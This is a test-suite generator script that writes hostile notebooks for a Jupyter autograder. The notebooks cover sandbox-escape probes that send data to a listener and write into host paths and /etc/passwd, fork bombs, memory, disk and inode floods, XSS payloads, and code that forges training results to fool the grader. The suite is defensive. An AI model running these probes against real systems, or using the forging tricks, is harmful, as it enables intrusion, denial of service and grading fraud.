"""Writes the hostile notebooks and bad input files of tests/security/notebooks/ (run it after editing).

Each notebook is small and attacks one thing. What a notebook finds out is printed on one line,
`FINDINGS <json>`, so a test reads it back from the facts the grader stored (`execution.stdout`).
Values only known when the test runs (the port of a listener, the host paths the kernel must not see)
are written into the source as `@@NAME@@` and replaced by a Python literal when the test copies the
notebook (`materialize`).

    python tests/security/make_notebooks.py          # rewrite the folder
"""

from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import nbformat

FOLDER = Path(__file__).parent / "notebooks"
XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '"><img src=x onerror=alert(1)>'
_PLACEHOLDER = re.compile(r"@@([A-Z_]+)@@")
# Stored under a tame name (a checkout on any system can hold it); graded under a hostile one.
RENAMES = {"xss.ipynb": f"{XSS_IMG}.ipynb"}

# The solution's code, section by section, written out here so that the reference notebook's wording can
# change without changing what these tests attack.
SETUP = "import numpy as np\nimport keras\nfrom keras import layers\nimport matplotlib.pyplot as plt"
PREPARE = """\
num_classes = 10
(x_train, y_train), (x_test, y_test) = keras.datasets.mnist.load_data()
x_train = np.expand_dims(x_train.astype("float32") / 255, -1)
x_test = np.expand_dims(x_test.astype("float32") / 255, -1)
print("x_train shape:", x_train.shape)
print("first 10 labels:", y_train[0:10])
y_train = keras.utils.to_categorical(y_train, num_classes)
y_test = keras.utils.to_categorical(y_test, num_classes)"""
BUILD = """\
input_shape = (28, 28, 1)
model = keras.Sequential([
    keras.Input(shape=input_shape),
    layers.Flatten(),
    layers.Dense(128, activation="sigmoid"),
    layers.Dense(num_classes, activation="softmax"),
])
model.summary()"""
COMPILE = """\
batch_size = 128
epochs = 20
model.compile(
    loss=keras.losses.CategoricalCrossentropy(),
    optimizer=keras.optimizers.SGD(learning_rate=0.02),
    metrics=[keras.metrics.CategoricalAccuracy()],
)"""
# Honest training on all of x_train: the suite's dataset is small enough for it to take seconds.
FIT = "history = model.fit(x_train, y_train, batch_size=batch_size, epochs=epochs, validation_split=0.1, verbose=0)"
EVALUATE = """\
score = model.evaluate(x_test, y_test, verbose=0)
print("Test loss:", score[0])
print("Test accuracy:", score[1])"""
FINDINGS = 'print("FINDINGS " + json.dumps(findings, sort_keys=True, default=str))'

# ------------------------------------------------------------------------------------------- isolation

NET = (
    """\
import json, socket
PORT = @@PORT@@
HOST_ADDRESSES = @@HOST_ADDRESSES@@
findings = {"probe": "network", "interfaces": [name for _, name in socket.if_nameindex()], "connect": {}, "dns": None}
for address in ["127.0.0.1", *HOST_ADDRESSES]:
    try:
        with socket.create_connection((address, PORT), timeout=3) as s:
            s.sendall(b"LEAKED FROM THE SANDBOX")
        findings["connect"][address] = "connected"
    except OSError as exc:
        findings["connect"][address] = f"{type(exc).__name__}: {exc}"
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    findings["internet"] = "connected"
except OSError as exc:
    findings["internet"] = f"{type(exc).__name__}: {exc}"
try:
    findings["dns"] = socket.getaddrinfo("example.com", 80)[0][4][0]
except OSError as exc:
    findings["dns"] = f"{type(exc).__name__}: {exc}"
"""
    + FINDINGS
)

# The marker is split in this source, so finding it means reading another submission (bad_not_json.ipynb).
FILESYSTEM = (
    """\
import errno, json, os, sys
HOST = @@HOST_PATHS@@
MARK = @@MARK_HEAD@@ + @@MARK_TAIL@@
findings = {"probe": "filesystem", "visible": {}, "found": [], "marker_files": [], "writes": {}}
findings["env"] = sorted(os.environ)
for name, path in HOST.items():
    findings["visible"][name] = os.path.exists(path)
findings["root"] = sorted(os.listdir("/root")) if os.path.isdir("/root") else None
# Everything but the kernel's virtual filesystems and the read-only system and interpreter folders.
skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}
wanted = ("rubric.yaml", "grades.json", "grades.csv", "solution.ipynb", "index.html", "facts")
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
    for name in dirs + files:
        path = os.path.join(top, name)
        if MARK in name or name in wanted or name.endswith(".ipynb"):
            findings["found"].append(path)
        if name in files:
            try:
                if os.path.getsize(path) < (1 << 20) and MARK.encode() in open(path, "rb").read():
                    findings["marker_files"].append(path)
            except OSError:
                pass
new_files = {
    "next_to_notebook": HOST["submissions"] + "/pwned.txt",
    "reports": HOST["out"] + "/pwned.txt",
    "cache": HOST["cache"] + "/pwned.txt",
    "repository": HOST["repository"] + "/pwned.txt",
    "usr": "/usr/pwned.txt",
    "interpreter": sys.prefix + "/pwned.txt",
    "home": os.path.expanduser("~/scratch.txt"),
    "tmp": "/tmp/scratch.txt",
    "run": "/grader/run/scratch.txt",
}
# Every folder the kernel can create a file in (the walk above skipped only read-only system folders).
findings["writable_folders"] = []
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip - {"/dev"}]
    try:
        os.close(os.open(os.path.join(top, ".write-probe"), os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        os.remove(os.path.join(top, ".write-probe"))
        findings["writable_folders"].append(top)
    except OSError:
        pass
# Existing files are only opened for writing, never changed, in case the sandbox let it through.
existing = {"probe": "/grader/lib/grader_kernel/probe.py", "dataset": "/grader/data/mnist.npz", "etc": "/etc/passwd"}
for name, path in [*new_files.items(), *existing.items()]:
    try:
        with open(path, "ab" if name in new_files else "r+b") as fh:
            if name in new_files:
                fh.write(b"pwned")
        findings["writes"][name] = "written" if name in new_files else "opened for writing"
    except OSError as exc:
        findings["writes"][name] = errno.errorcode.get(exc.errno, str(exc.errno))
"""
    + FINDINGS
)

IDENTITY = (
    """\
import ctypes, json, os
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
processes = {}
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            processes[entry] = open(f"/proc/{entry}/cmdline", "rb").read().replace(b"\\0", b" ").decode()[:120]
        except OSError:
            pass
findings = {
    "probe": "identity",
    "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(),
    "cap_eff": status["CapEff"].strip(), "cap_bnd": status["CapBnd"].strip(),
    "no_new_privs": status.get("NoNewPrivs", "").strip(),
    "pid": os.getpid(), "ppid": os.getppid(), "processes": processes,
    "uid_map": open("/proc/self/uid_map").read().split(),
}
try:
    os.setuid(0)
    findings["setuid0"] = "succeeded"
except OSError as exc:
    findings["setuid0"] = type(exc).__name__
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()  # unshare needs a single-threaded process; the kernel has threads
if child == 0:
    os._exit(0 if libc.unshare(0x10000000) == 0 else 1)  # CLONE_NEWUSER
findings["new_user_namespace"] = "created" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0 else "refused"
"""
    + FINDINGS
)

# Each call would succeed, or fail otherwise than with EPERM, without the seccomp filter. They run in a child:
# a kernel traced by its parent or without address randomisation would misbehave if one got through.
SECCOMP = (
    """\
import ctypes, errno, json, os, platform
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {"keyctl": 250, "bpf": 321, "perf_event_open": 298},
    "aarch64": {"keyctl": 219, "bpf": 280, "perf_event_open": 241},
}[platform.machine()]
def outcome(result):
    return "succeeded" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
calls = {
    "ptrace": lambda: libc.ptrace(0, 0, None, None),  # PTRACE_TRACEME
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "unshare": lambda: libc.unshare(0),
    "setns": lambda: libc.setns(-1, 0),
    "keyctl": lambda: libc.syscall(NUMBERS["keyctl"], 0, -3, 0),  # the session keyring's id
    "bpf": lambda: libc.syscall(NUMBERS["bpf"], 0, None, 0),
    "perf_event_open": lambda: libc.syscall(NUMBERS["perf_event_open"], None, 0, -1, -1, 0),
    "personality": lambda: libc.personality(0x0040000),  # ADDR_NO_RANDOMIZE
}
read, write = os.pipe()
child = os.fork()
if child == 0:
    os.write(write, json.dumps({name: outcome(call()) for name, call in calls.items()}).encode())
    os._exit(0)
os.close(write)
os.waitpid(child, 0)
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
findings = {
    "probe": "seccomp",
    "calls": json.loads(os.read(read, 1 << 16)),
    "personality_query": outcome(libc.personality(0xFFFFFFFF)),
    "seccomp_mode": status["Seccomp"].strip(),
}
"""
    + FINDINGS
)

# ------------------------------------------------------------------------------------------- limits

INFINITE_LOOP = ["while True:\n    pass", 'print("after the loop")']
IGNORES_INTERRUPT = [
    """\
import time
interrupts = 0
while True:
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        interrupts += 1""",
    'print("never printed")',
]
MEMORY = [
    """\
import numpy as np
hog = np.ones(3 << 30, dtype=np.uint8)  # 3 GiB, every page touched
print("allocated", hog.nbytes)"""
]
FORK_BOMB = [
    """\
import json, os, time
children, error = 0, None
for _ in range(100_000):
    try:
        pid = os.fork()
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children += 1
findings = {"children": children, "error": error}
"""
    + FINDINGS
]
OUTPUT_FLOOD = [
    """\
import sys
chunk = "x" * (1 << 20)
for _ in range(200):  # 200 MB in 1 MB pieces
    print(chunk)
    sys.stdout.flush()""",
    'print("after the flood")',
]
# Messages no front end would send: a widget comm with incomplete state (nbclient's widget mimic raised on it),
# then comm, status and output messages of the wrong shape and an unknown type, sent with the kernel's own
# session (student code can reach it, key included).
ODD_MESSAGES = """\
from comm import create_comm
create_comm(target_name="jupyter.widget", data={"state": {"_model_name": "X"}})
kernel = get_ipython().kernel
odd = [
    ("comm_open", {"target_name": "jupyter.widget"}),
    ("comm_msg", {}),
    ("status", {}),
    ("no_such_type", {"x": 1}),
    ("stream", {"name": "stdout", "text": {"not": "text"}}),
    ("display_data", {"data": "x", "transient": "y"}),
    ("error", {"ename": 1}),
]
for msg_type, content in odd:
    kernel.session.send(kernel.iopub_socket, msg_type, content, parent=kernel.get_parent())
print("after the odd messages")"""
# Display ids, then updates of 20 MB each: the grader applied updates before the output cap (2.8 GB for
# 25 x 100 MB).
DISPLAY_FLOOD = [
    """\
from IPython.display import display, update_display
blob = "x" * (20 << 20)
for i in range(20):
    display({"text/plain": "small"}, raw=True, display_id=f"d{i}")
    update_display({"text/plain": blob}, raw=True, display_id=f"d{i}")""",
    'print("after the displays")',
]
# One 100 MB output message: the grader used to hold it whole, several times over, before discarding it.
HUGE_PRINT = ['print("x" * (100 << 20))', 'print("after the print")']
# One message of 1,000 parts of 200 KB, each under the part cap, one buffer sent 1,000 times (so it costs the
# kernel 200 KB): ZeroMQ assembles the whole message, 200 MB, before anyone can look at it. The grader used to.
MANY_PARTS = [
    """\
kernel = get_ipython().kernel
part = memoryview(b"x" * (200 << 10))
kernel.iopub_socket.send_multipart([part] * 1000, copy=False)""",
    'print("after the parts")',
]
DISK = [
    """\
import errno, json, os
def fill(path, megabytes):
    written = 0
    try:
        with open(path, "wb") as fh:
            for _ in range(megabytes):
                fh.write(b"\\0" * (1 << 20))
                written += 1
        return f"wrote {written} MB"
    except OSError as exc:
        return f"{errno.errorcode.get(exc.errno)} after {written} MB"
findings = {"one_big_file": fill("big.bin", 2048)}
os.remove("big.bin")
findings["many_files"] = [fill(f"part{i}.bin", 60) for i in range(8)]
findings["dev_shm"] = [fill(f"/dev/shm/part{i}.bin", 60) for i in range(3)]
"""
    + FINDINGS,
    'print("the notebook goes on")',
    # The folder of the kernel's sockets is on the host's disk and writable; millions of empty files would
    # exhaust the host's inodes long before its bytes.
    """\
import ipykernel
sockets = os.path.dirname(ipykernel.get_connection_file())
for i in range(2_000_000):
    open(os.path.join(sockets, f"junk{i}"), "w").close()
print("made two million files")""",
]

# Millions of empty files in each scratch folder (home, /tmp, /dev/shm), between honest cells: a tmpfs caps its
# bytes, but its files (an inode of kernel memory each) only if told, so the flood used to run until the cell's
# time was up. Each folder now refuses files at its cap, and the honest cells after the flood still run and earn.
INODES = [
    SETUP,
    PREPARE,
    """\
import errno, json, os
findings = {"probe": "inodes"}
for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm"):
    made, error = 0, None
    try:
        while made < 5_000_000:
            os.close(os.open(f"{folder}/empty{made}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
    except OSError as exc:
        error = errno.errorcode.get(exc.errno, str(exc.errno))
    findings[folder] = {"made": made, "error": error, "inodes": os.statvfs(folder).f_files}
"""
    + FINDINGS,
    BUILD,
]

# A folder tree 1,200 levels deep in the run folder (its path, 73,000 characters, is far beyond PATH_MAX), with
# a link to /, a link loop, a FIFO and a folder of mode 000 at the bottom; then 240 MB written down there.
DEEP_TREE = [
    """\
import os, stat
os.chdir("/grader/run")
for _ in range(1200):
    os.mkdir("d" * 60)
    os.chdir("d" * 60)
os.symlink("/", "root_link")
os.symlink("loop", "loop")
os.mknod("fifo", stat.S_IFIFO | 0o600)
os.mkdir("locked")
open("locked/inside", "w").close()
os.chmod("locked", 0)
print("a tree 1200 folders deep")""",
    """\
import time
for i in range(4):
    with open(f"part{i}.bin", "wb") as fh:
        for _ in range(60):
            fh.write(b"\\0" * (1 << 20))
time.sleep(8)
print("still running after 240 MB")""",
]

# The grader's re-evaluation builds the saved model from its config, which the student controls: this one
# asks for 784 x 600,000 weights (1.9 GB) in the fresh process.
MODEL_MEMORY = [
    """\
import sys, zipfile
import keras
model = keras.Sequential([keras.Input((784,)), keras.layers.Dense(10)])
state = sys.modules["grader_kernel.state"]._state
save = state.save_model
def bloated(m, path):
    save(m, "/home/student/small.keras")
    with zipfile.ZipFile("/home/student/small.keras") as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "config.json":
                data = data.replace(b'"units": 10,', b'"units": 600000,')
            dst.writestr(item, data)
state.save_model = bloated"""
]

# ------------------------------------------------------------------------------------------- faults

FAULTS = {
    "fault_os_exit": "import os\nos._exit(1)",
    "fault_sigkill": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "fault_segfault": "import ctypes\nctypes.string_at(0)",
}
SYS_EXIT = ["import sys\nsys.exit()", 'print("after sys.exit")', "exit()", 'print("after exit")']
# A notebook that turns the grader's own calls into the kernel into endless loops.
HANGS_PROBE = [
    """\
def swallow_grader_calls(lines):
    if any("grader_kernel" in line for line in lines):
        return ["while True:\\n", "    try:\\n", "        pass\\n",
                "    except KeyboardInterrupt:\\n", "        pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(swallow_grader_calls)""",
    'print("second cell")',
    'print("third cell")',
]
# The facts file is the student's to write: each of these leaves one the grader's decoder once crashed on
# (nested 100,000 deep; a 400-digit integer), and a folder where the probe's next write would go, so that
# the probe cannot replace it.
HOSTILE_FACTS = {
    "fault_deep_facts": '"[" * 100_000 + "]" * 100_000',
    "fault_huge_integer_facts": '\'{"batch_size": \' + "9" * 400 + "}"',
}
HOSTILE_FACTS_CELL = """\
import os
os.mkdir("/grader/run/facts.json.tmp")
with open("/grader/run/facts.json", "w") as fh:
    fh.write({text})"""
# A history no chart can scale (1.7e308, infinities, NaN), handed to the probe as if `fit` had made it.
HUGE_HISTORY = """\
import sys
probe = sys.modules["grader_kernel.probe"]
real_collect = probe._collect
values = {"loss": [1.7e308, float("inf"), float("nan"), 0.5], "accuracy": [-1.7e308, 0.1, 0.2, 0.3]}
probe._collect = lambda: {**real_collect(), "history": {"epochs": 4, "keys": sorted(values), "values": values,
                                                        "from_fit": True}}"""

# ------------------------------------------------------------------------------------------- spoofing

FAKE_VALUES = """\
down, up = [2.0 - 0.09 * i for i in range(20)], [0.5 + 0.02 * i for i in range(20)]
fake = {"loss": down, "categorical_accuracy": up, "val_loss": down, "val_categorical_accuracy": up}"""
SPOOF_SCORE = [
    SETUP,
    PREPARE,
    BUILD,
    COMPILE + "\n" + FIT,
    """\
score = [0.0812, 0.9751]  # typed in
print("Test loss:", score[0])
print("Test accuracy:", score[1])""",
]
SPOOF_EVALUATE = [
    SETUP,
    PREPARE,
    BUILD,
    COMPILE + "\n" + FIT,
    "keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 0.99]\n" + EVALUATE,
]
SPOOF_FIT = [
    SETUP,
    PREPARE,
    BUILD,
    FAKE_VALUES
    + """
class FakeHistory:
    def __init__(self):
        self.history, self.epoch = fake, list(range(20))
keras.Model.fit = lambda self, *args, **kwargs: FakeHistory()
"""
    + COMPILE
    + "\n"
    + FIT,
    EVALUATE,
]
SPOOF_HISTORY = [
    SETUP,
    PREPARE,
    BUILD,
    FAKE_VALUES
    + "\n"
    + COMPILE
    + """
history = keras.callbacks.History()
history.history, history.epoch = fake, list(range(20))
model.history = history""",
    EVALUATE,
]
# Replaces what a student might think the grader relies on, then claims everything without doing it. It
# also leaves a FIFO where the probe's facts were: a grader that opened it would wait forever.
SPOOF_PROBE = [
    """\
import builtins, os, sys
import numpy as np
probe = sys.modules["grader_kernel.probe"]
for name in ("begin_cell", "end_cell", "finish", "_collect", "_write", "install"):
    setattr(probe, name, lambda *args, **kwargs: None)
os.remove("/grader/run/facts.json")
os.mkfifo("/grader/run/facts.json")
real_print = builtins.print
builtins.print = lambda *args, **kwargs: real_print("first 10 labels: [5 0 4 1 9 2 1 3 1 4]")
np.load = lambda *args, **kwargs: {"x_train": np.zeros((1, 28, 28)), "y_train": np.zeros(1)}""",
    FAKE_VALUES
    + """
class Model:
    history = None
model = Model()
input_shape = (28, 28, 1)
batch_size, epochs = 128, 20
history = type("History", (), {"history": fake, "epoch": list(range(20))})()
score = [0.05, 0.99]
print("Test loss:", score[0], "Test accuracy:", score[1])""",
]
# The determined version: reads the probe and hands it made-up facts of a perfect solution; the model it
# leaves is built and compiled but never trained. What the fresh-process re-evaluation measures still holds.
FORGE_FACTS = [
    SETUP,
    PREPARE,
    BUILD,
    COMPILE
    + "\n"
    + FAKE_VALUES
    + """
import sys
probe = sys.modules["grader_kernel.probe"]
real_collect = probe._collect
def forged():
    facts = real_collect()
    train = {"names": ["x_train"], "images": "train_scaled", "n_samples": 60000, "sample_shape": [28, 28, 1]}
    test = {"names": ["x_test"], "images": "test_scaled", "n_samples": 10000, "sample_shape": [28, 28, 1]}
    facts["fit_calls"] = [{"arguments": {"batch_size": 128, "epochs": 20, "validation_split": 0.1},
                           "x": train, "y": {"names": ["y_train"], "labels": "train_onehot"},
                           "completed_epochs": 20, "iterations_before": 0, "iterations_after": 200,
                           "weights_changed": True, "history_keys": sorted(fake), "error": None,
                           "unknown_arguments": []}]
    facts["history"] = {"epochs": 20, "keys": sorted(fake), "values": fake, "from_fit": True}
    facts["variables"]["score"] = {"present": True, "type_name": "list", "value": [0.05, 0.99],
                                   "from_evaluate": True}
    facts["evaluate_calls"] = [{"x": test, "y": {"names": ["y_test"], "labels": "test_onehot"},
                                "result": [0.05, 0.99], "error": None}]
    return facts
probe._collect = forged""",
    'print("Test loss: 0.05 Test accuracy: 0.99")',
]

# Forged training: each earned full marks before the grader checked training against the saved model.


def _solution_with(train: str, *after: str) -> list[str]:
    """The solution up to the model, then `train` in place of compiling and fitting, then `after`."""
    return [SETUP, PREPARE, BUILD, train, *after]


def _fit_on(x: str, y: str) -> str:
    return FIT.replace("model.fit(x_train, y_train,", f"model.fit({x}, {y},")


# A top-k accuracy with k=10 (always 1.0 on 10 classes) under the name of the metric the rubric asks for.
TOP_K_AS_CATEGORICAL = 'metrics=[keras.metrics.TopKCategoricalAccuracy(k=10, name="categorical_accuracy")]'
FORGE_METRIC_NAME = _solution_with(
    COMPILE.replace("metrics=[keras.metrics.CategoricalAccuracy()]", TOP_K_AS_CATEGORICAL) + "\n" + FIT, EVALUATE
)
# A fit that trains nothing but writes what the probe would have recorded for a real one (the record, the
# returned History, the hooks), with the optimizer's step counter set to match.
FORGED_FIT = """
import sys
kept = sys.modules["grader_kernel.keras_identity"]
state = sys.modules["grader_kernel.state"]._state
def fit(self, x=None, y=None, batch_size=None, epochs=1, verbose="auto", callbacks=None, validation_split=0.0, **kw):
    steps = epochs * -(-int(len(x) * (1 - validation_split)) // batch_size)
    self.optimizer.iterations.assign(steps)
    history = keras.callbacks.History()
    history.history, history.epoch = fake, list(range(epochs))
    self.history = history
    state.fit_results.append(history)
    state.fit_calls.append({
        "arguments": {"batch_size": batch_size, "epochs": epochs, "validation_split": validation_split},
        "x": {"names": ["x_train"], "images": "train_scaled", "n_samples": len(x), "sample_shape": list(x.shape[1:])},
        "y": {"names": ["y_train"], "labels": "train_onehot", "n_samples": len(y), "sample_shape": [10]},
        "iterations_before": 0, "iterations_after": steps,
        "completed_epochs": epochs, "history_keys": sorted(fake), "weights_changed": True,
        "weights_after": kept.weights_digest(self), "unknown_arguments": [], "error": None,
    })
    return history
state.hooks["fit"] = keras.Model.fit = fit
"""
FORGE_FIT_STATE = _solution_with(FAKE_VALUES + FORGED_FIT + COMPILE + "\n" + FIT, EVALUATE)
# fit with the rubric's arguments on 10 images, then weights obtained without fit. (They stand in for weights
# trained elsewhere and pasted into the notebook: random sigmoid features and a least-squares read-out.)
SET_WEIGHTS = """\
rng = np.random.default_rng(0)
w1 = rng.normal(0, 0.1, (784, 128)).astype("float32")
features = 1 / (1 + np.exp(-(x_train.reshape(len(x_train), -1) @ w1)))
w2 = np.linalg.lstsq(features, y_train, rcond=None)[0].astype("float32")
model.set_weights([w1, np.zeros(128, "float32"), 5 * w2, np.zeros(10, "float32")])"""
FORGE_SET_WEIGHTS = _solution_with(COMPILE + "\n" + _fit_on("x_train[:10]", "y_train[:10]"), SET_WEIGHTS, EVALUATE)
FORGE_FIT_ON_TEST = _solution_with(COMPILE + "\n" + _fit_on("x_test", "y_test"), EVALUATE)

# ------------------------------------------------------------------------------------------- report safety

XSS = [
    SETUP,
    f"""\
# {XSS_SCRIPT} {XSS_IMG}
(x_train, y_train), _ = keras.datasets.mnist.load_data()
print({XSS_SCRIPT!r}, {XSS_IMG!r})
input_shape = {XSS_IMG!r}
indices = [0]
plt.imshow(x_train[0], cmap="gray")
plt.title({XSS_SCRIPT!r} + {XSS_IMG!r})
plt.show()""",
    f"raise ValueError({XSS_SCRIPT!r} + {XSS_IMG!r})",
]

# ------------------------------------------------------------------------------------------- bad inputs

PLAIN = ['print("plain notebook")']


def notebook(cells: list[str], **metadata: Any) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata.update(
        kernelspec={"name": "python3", "display_name": "Python 3", "language": "python"},
        language_info={"name": "python"},
    )
    nb.metadata.update(metadata)
    nb.cells = [nbformat.v4.new_code_cell(source) for source in cells]
    for n, cell in enumerate(nb.cells):
        cell.id = f"cell-{n}"
    return nb


def _v3(source: str) -> str:
    cell = {
        "cell_type": "code",
        "collapsed": False,
        "input": [source],
        "language": "python",
        "metadata": {},
        "outputs": [],
    }
    doc = {
        "metadata": {"name": "old"},
        "nbformat": 3,
        "nbformat_minor": 0,
        "worksheets": [{"cells": [cell], "metadata": {}}],
    }
    return json.dumps(doc, indent=1)


def notebooks() -> dict[str, str]:
    """File name (relative to the folder) -> file text."""
    nbs: dict[str, nbformat.NotebookNode] = {
        "isolation.ipynb": notebook([NET, FILESYSTEM, IDENTITY, SECCOMP]),
        "limit_loop.ipynb": notebook(INFINITE_LOOP),
        "limit_ignores_interrupt.ipynb": notebook(IGNORES_INTERRUPT),
        "limit_memory.ipynb": notebook(MEMORY),
        "limit_fork_bomb.ipynb": notebook(FORK_BOMB),
        "limit_output_flood.ipynb": notebook(OUTPUT_FLOOD),
        "limit_model_memory.ipynb": notebook(MODEL_MEMORY),
        "limit_disk.ipynb": notebook(DISK),
        "limit_odd_messages.ipynb": notebook([SETUP, PREPARE, ODD_MESSAGES]),
        "limit_display_flood.ipynb": notebook(DISPLAY_FLOOD),
        "limit_huge_print.ipynb": notebook(HUGE_PRINT),
        "limit_many_parts.ipynb": notebook(MANY_PARTS),
        "limit_deep_tree.ipynb": notebook(DEEP_TREE),
        "limit_inodes.ipynb": notebook(INODES),
        **{
            f"{name}.ipynb": notebook([SETUP, PREPARE, fault, 'print("after the fault")'])
            for name, fault in FAULTS.items()
        },
        "fault_sys_exit.ipynb": notebook([SETUP, PREPARE, *SYS_EXIT]),
        "fault_hangs_probe.ipynb": notebook(HANGS_PROBE),
        **{
            f"{name}.ipynb": notebook([HOSTILE_FACTS_CELL.format(text=text), 'print("after the facts")'])
            for name, text in HOSTILE_FACTS.items()
        },
        "fault_huge_history.ipynb": notebook([HUGE_HISTORY]),
        "spoof_score.ipynb": notebook(SPOOF_SCORE),
        "spoof_evaluate.ipynb": notebook(SPOOF_EVALUATE),
        "spoof_fit.ipynb": notebook(SPOOF_FIT),
        "spoof_history.ipynb": notebook(SPOOF_HISTORY),
        "spoof_probe.ipynb": notebook(SPOOF_PROBE),
        "forge_facts.ipynb": notebook(FORGE_FACTS),
        "forge_metric_name.ipynb": notebook(FORGE_METRIC_NAME),
        "forge_fit_state.ipynb": notebook(FORGE_FIT_STATE),
        "forge_set_weights.ipynb": notebook(FORGE_SET_WEIGHTS),
        "forge_fit_on_test.ipynb": notebook(FORGE_FIT_ON_TEST),
        "xss.ipynb": notebook(XSS),
        "bad_no_cells.ipynb": notebook([]),
        "bad_r_kernel.ipynb": notebook(
            ["print('hello')"],
            kernelspec={"name": "ir", "display_name": "R", "language": "R"},
            language_info={"name": "R"},
        ),
        "José Núñez.ipynb": notebook(PLAIN),
    }
    files = {name: nbformat.writes(nb) + "\n" for name, nb in nbs.items()}
    files["bad_nbformat_v3.ipynb"] = _v3('print("hello from nbformat 3")') + "\n"
    # Another student's file for the isolation notebook to look for; the marker is made per run.
    files["bad_not_json.ipynb"] = "this is not JSON { @@MARK@@\n"
    files["dup.ipynb"] = files["dup/notebook.ipynb"] = "not JSON either\n"  # two ids "dup": no kernel needed
    files["bad_not_a_notebook.ipynb"] = '{"name": "not a notebook", "values": [1, 2, 3]}\n'
    files["bad_empty_file.ipynb"] = ""
    return files


# ------------------------------------------------------------------------------------------- files too big to keep
# Written when the test runs (tests/security/test_notebook_files.py), not kept in the folder.

# Every number from 0 to 3 in steps of 0.005: any test loss and accuracy is "printed" within the check's 5e-3.
EVERY_SCORE = "Test loss and accuracy: " + " ".join(f"{i / 200:.3f}" for i in range(601)) + "\n"
SAVED_OUTPUTS = [SETUP, PREPARE, BUILD, COMPILE + "\n" + FIT, "score = model.evaluate(x_test, y_test, verbose=0)"]


def saved_outputs() -> str:
    """The honest solution whose printing is only in outputs saved in the file, on cells the run never executes:
    one tagged `skip-execution`, one of whitespace only. Only outputs the grader's run produces may count."""
    nb = notebook(SAVED_OUTPUTS)
    printed = [nbformat.v4.new_output("stream", name="stdout", text=EVERY_SCORE)]
    skipped = nbformat.v4.new_code_cell(EVALUATE, metadata={"tags": ["skip-execution"]}, outputs=printed)
    blank = nbformat.v4.new_code_cell("   \n", outputs=printed, execution_count=7)
    nb.cells += [skipped, blank]
    return nbformat.writes(nb)


def empty_lists(count: int = 8_000_000) -> bytes:
    """A notebook of one small cell whose metadata holds `count` empty lists: 24 MB that json.loads made 1.8 GB."""
    nb = notebook(['print("small cell, large file")'])
    text = nbformat.writes(nb).encode()
    return text.rstrip()[:-1] + b', "padding": [' + b",".join([b"[]"] * count) + b"]}"


def long_comments(cells: int = 700, chars: int = 20_000) -> str:
    """700 cells of long comments in a character JSON escapes (28 MB): facts of 84 MB, over what the cache read.

    The facts keep every code cell's source, run or not: the comment cells are tagged `skip-execution`, so the
    kernel runs one cell and a loaded machine grades the file in seconds."""
    nb = notebook(['print("comments follow")', *("# " + "é" * chars for _ in range(cells - 1))])
    for cell in nb.cells[1:]:
        cell.metadata["tags"] = ["skip-execution"]
    return nbformat.writes(nb)


def padded(size: int) -> bytes:
    """A plain notebook padded with spaces to `size` bytes (over the size limit, before anything reads it)."""
    text = nbformat.writes(notebook(PLAIN)).encode()
    return text + b" " * (size - len(text))


def placeholders(text: str) -> set[str]:
    return set(_PLACEHOLDER.findall(text))


def materialize(dest: Path, values: dict[str, Any]) -> None:
    """Copies the folder to `dest`, replacing each `@@NAME@@` with the Python literal of values[NAME]."""

    def literal(match: re.Match[str]) -> str:
        return repr(values[match.group(1)])

    def text(match: re.Match[str]) -> str:
        return str(values[match.group(1)])

    for src in sorted(FOLDER.rglob("*.ipynb")):
        relative = src.relative_to(FOLDER)
        target = dest / RENAMES.get(relative.as_posix(), relative)
        target.parent.mkdir(parents=True, exist_ok=True)
        raw = src.read_text(encoding="utf-8")
        if not placeholders(raw):
            shutil.copyfile(src, target)
        elif raw.lstrip().startswith("{"):  # a notebook: the value goes into Python source
            nb = nbformat.reads(raw, as_version=4)
            for cell in nb.cells:
                cell.source = _PLACEHOLDER.sub(literal, cell.source)
            target.write_text(nbformat.writes(nb), encoding="utf-8")
        else:
            target.write_text(_PLACEHOLDER.sub(text, raw), encoding="utf-8")


def write_all(folder: Path = FOLDER) -> None:
    if folder.exists():
        shutil.rmtree(folder)
    for name, text in notebooks().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


if __name__ == "__main__":
    write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER)
